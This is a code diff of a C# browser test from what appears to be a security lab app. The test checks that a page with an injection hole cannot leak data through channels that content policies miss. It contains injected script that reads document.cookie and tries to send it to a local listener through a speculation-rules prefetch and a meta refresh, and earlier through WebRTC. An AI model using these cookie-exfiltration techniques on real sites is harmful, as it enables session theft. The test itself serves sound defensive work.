@@ -60,28 +60,28 @@ public sealed class LabTests(AppFixture app, BrowserFixture browser) : BrowserTe
     [Fact]
     public async Task Nothing_gets_out_of_the_page_with_the_hole_by_ways_that_no_policy_stops()
     {
+        // WebRTC sends nothing on a machine without a network, so what is asked is whether a script has it: its own, and that of an empty frame, which lives as long as its frame.
         const string script = """
-            const call = peer => { const c = new peer({ iceServers: [{ urls: 'stun:127.0.0.1:UDP' }] }); c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o)) };
-            try { call(RTCPeerConnection) } catch { }
-            try { const f = document.createElement('iframe'); document.body.append(f); call(f.contentWindow.RTCPeerConnection) } catch { }
+            const f = document.createElement('iframe'); document.body.append(f);
             const s = document.createElement('script'); s.type = 'speculationrules';
             s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['http://127.0.0.1:TCP/?' + document.cookie], eagerness: 'immediate' }] });
             document.head.append(s);
             document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=0;url=http://127.0.0.1:TCP/>')
+            setTimeout(() => { document.body.dataset.means = `${typeof RTCPeerConnection} ${typeof webkitRTCPeerConnection} ${f.isConnected}` }, 1000);
             """;
         using var tcp = new TcpListener(IPAddress.Loopback, 0);
-        using var udp = new UdpClient(new IPEndPoint(IPAddress.Loopback, 0));
         tcp.Start();
-        var aimed = script.Replace("TCP", $"{((IPEndPoint)tcp.LocalEndpoint).Port}", StringComparison.Ordinal).Replace("UDP", $"{((IPEndPoint)udp.Client.LocalEndPoint!).Port}", StringComparison.Ordinal);
+        var aimed = script.Replace("TCP", $"{((IPEndPoint)tcp.LocalEndpoint).Port}", StringComparison.Ordinal);
         var session = await OpenAsync();
         await OpenBookAsync(session, "localhost");
-        await WriteAsync(session, $"<script>loot.textContent = document.cookie; setTimeout(() => {{ document.body.dataset.done = 'yes' }}, 1000); {aimed}</script>");
+        Assert.Equal("function", await session.Page.EvaluateAsync<string>("typeof RTCPeerConnection"));
+        await WriteAsync(session, $"<script>loot.textContent = document.cookie; {aimed}</script>");
 
         var hole = await OpenTabAsync(session, "Open the page with the hole");
 
-        await Assertions.Expect(hole.Locator("body[data-done=yes]")).ToHaveCountAsync(1);
+        await Assertions.Expect(hole.Locator("body")).ToHaveAttributeAsync("data-means", "undefined undefined false");
         await Assertions.Expect(hole.Locator("#loot")).ToContainTextAsync("eyJ");
-        Assert.Equal((false, 0), (tcp.Pending(), udp.Available));
+        Assert.False(tcp.Pending());
     }
 
     [Fact]
